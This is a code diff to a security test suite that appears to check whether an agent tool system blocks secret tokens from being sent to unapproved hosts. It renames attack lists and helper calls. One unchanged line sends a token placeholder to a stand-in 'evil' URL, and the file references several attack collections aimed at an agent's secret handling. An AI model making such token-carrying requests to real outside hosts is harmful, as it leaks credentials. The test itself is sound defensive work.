@@ -6,7 +6,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { type Lab, type Outcome, openLab, token } from './attacks/lab.js';
 import { interceptions } from './attacks/interception.js';
 import { type Attack, moreAttacks } from './attacks/more.js';
-import { questions } from './attacks/questions.js';
+import { guessingAttacks } from './attacks/guesses.js';
 import { mockAttacks } from './attacks/mocks.js';
 import { settingAttacks } from './attacks/settings.js';
 
@@ -608,14 +608,14 @@ const attacks: readonly Attack[] = [
       return lab.send({ url: getEvilUrl('/{{TOKEN}}') });
     },
   ],
-  ...questions,
+  ...guessingAttacks,
   ...moreAttacks,
   ...interceptions,
   ...settingAttacks,
   ...mockAttacks,
 ];
 
-/** The error that an agent receives, or the fault of an execution. */
+/** Returns the code of the error that an agent receives, or of the execution's error. */
 const findRefusalCode = (result: unknown): string =>
   /may only be sent to|SECRET_HOST_REFUSED/.test(JSON.stringify(result))
     ? 'SECRET_HOST_REFUSED'
@@ -625,7 +625,7 @@ const findRefusalCode = (result: unknown): string =>
 const setProxy = async (proxy: object): Promise<void> => {
   await lab.call('folders_get', { id: '' });
   await lab.call('folders_update', { id: '', connections: { proxy } });
-  await lab.agree();
+  await lab.approveAll();
 };
 
 /** Calls a function from a script. The outcome is the code of the error that the script gets. */
